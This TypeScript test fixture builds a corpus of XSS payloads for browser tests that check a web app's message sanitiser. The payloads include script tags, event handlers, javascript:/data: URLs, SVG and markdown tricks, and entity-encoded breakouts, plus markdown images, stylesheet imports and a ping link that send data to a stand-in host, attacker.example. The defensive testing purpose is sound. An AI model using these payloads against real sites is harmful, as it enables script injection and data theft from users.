import { XSS_PAYLOADS } from '../../apps/web/src/features/message-content/lib/xss-payloads.ts';

/** Where a markdown image or stylesheet would send what it knows, if anything loaded it. */
export const ATTACKER_ORIGIN = 'https://attacker.example';
export const LEAKING_IMAGE = `![x](${ATTACKER_ORIGIN}/leak?q=secret)`;

/**
 * Payloads that report their own execution: each calls `__xss(n)`, a function the browser tests
 * expose on the page, so a payload that runs is caught even where it shows no dialog. Script
 * tags, event handlers, javascript:/data:/vbscript: URLs, SVG and MathML, markdown link and image
 * tricks, HTML entities, attribute and element breakouts, CSS and loads from other origins.
 */
const REPORTING_PAYLOADS: readonly string[] = [
  '<script>__xss(1)</script>',
  '<img src=x onerror="__xss(2)">',
  '<svg><script>__xss(3)</script></svg>',
  '<svg/onload=__xss(4)>',
  '<body onload=__xss(5)>',
  '<iframe srcdoc="<script>parent.__xss(6)</script>"></iframe>',
  '<a href="javascript:__xss(7)">click me</a>',
  '[click me](javascript:__xss(8))',
  '<a href="data:text/html,<script>__xss(9)</script>">data link</a>',
  '[vb](vbscript:__xss(10))',
  '<img src="javascript:__xss(11)">',
  '![a](x" onerror="__xss(12))',
  LEAKING_IMAGE,
  `[![img](${ATTACKER_ORIGIN}/pixel.png)](javascript:__xss(14))`,
  '&lt;script&gt;__xss(15)&lt;/script&gt;',
  '&#60;img src=x onerror=__xss(16)&#62;',
  '<div style="background:url(javascript:__xss(17))">css url</div>',
  `<style>@import '${ATTACKER_ORIGIN}/x.css';</style>`,
  `<link rel=stylesheet href=${ATTACKER_ORIGIN}/x.css>`,
  '<input autofocus onfocus=__xss(20)>',
  '<video><source onerror=__xss(21)></video>',
  '<audio src=x onerror=__xss(22)>',
  '<marquee onstart=__xss(23)>m</marquee>',
  '"><img src=x onerror=__xss(24)>',
  "'-__xss(25)-'",
  '</textarea><script>__xss(26)</script>',
  '</title><script>__xss(27)</script>',
  "{{constructor.constructor('__xss(28)')()}}",
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(29)">',
  '<object data="data:text/html,<script>parent.__xss(30)</script>"></object>',
  '<svg><a xlink:href="javascript:__xss(31)"><text y="20">svg link</text></a></svg>',
  '<svg><animate onbegin=__xss(32) attributeName=x dur=1s>',
  '[mixed case](JaVaScRiPt:__xss(33))',
  '[b64](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMzQpPC9zY3JpcHQ+)',
  '<form><button formaction=javascript:__xss(35)>x</button></form>',
  '<a href="&#x6A;avascript:__xss(36)">entity link</a>',
  '<img src=x:x onerror=&#95;&#95;xss(37)>',
  '\\u003cscript\\u003e__xss(38)\\u003c/script\\u003e',
  'javascript:__xss(39)',
  `${ATTACKER_ORIGIN}/<script>__xss(40)</script>`,
  `<${ATTACKER_ORIGIN}/"onmouseover="__xss(41)>`,
  `<a href="${ATTACKER_ORIGIN}" ping="${ATTACKER_ORIGIN}/ping">ping</a>`,
  '<svg><style>@import url(javascript:__xss(43))</style></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:__xss(44)">m</maction></math>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(45)>">',
  '<template><img src=x onerror=__xss(46)></template>',
  '[ref link][r]\n\n[r]: javascript:__xss(47)',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>',
];

/**
 * Everything the browser tests render: the web app's own list (its payloads call alert(), which
 * the tests catch as dialogs) and the reporting payloads above.
 */
export const XSS_CORPUS: readonly string[] = [...XSS_PAYLOADS, ...REPORTING_PAYLOADS];

/**
 * The corpus packed into texts of at most `maxLength` code points (a post, a bio), one payload
 * per paragraph; payloads longer than that are left out.
 */
export function packCorpus(maxLength: number, corpus = XSS_CORPUS): string[] {
  const texts: string[] = [];
  let current = '';
  for (const payload of corpus) {
    if ([...payload].length > maxLength) continue;
    const next = current ? `${current}\n\n${payload}` : payload;
    if ([...next].length > maxLength) {
      texts.push(current);
      current = payload;
    } else {
      current = next;
    }
  }
  if (current) texts.push(current);
  return texts;
}
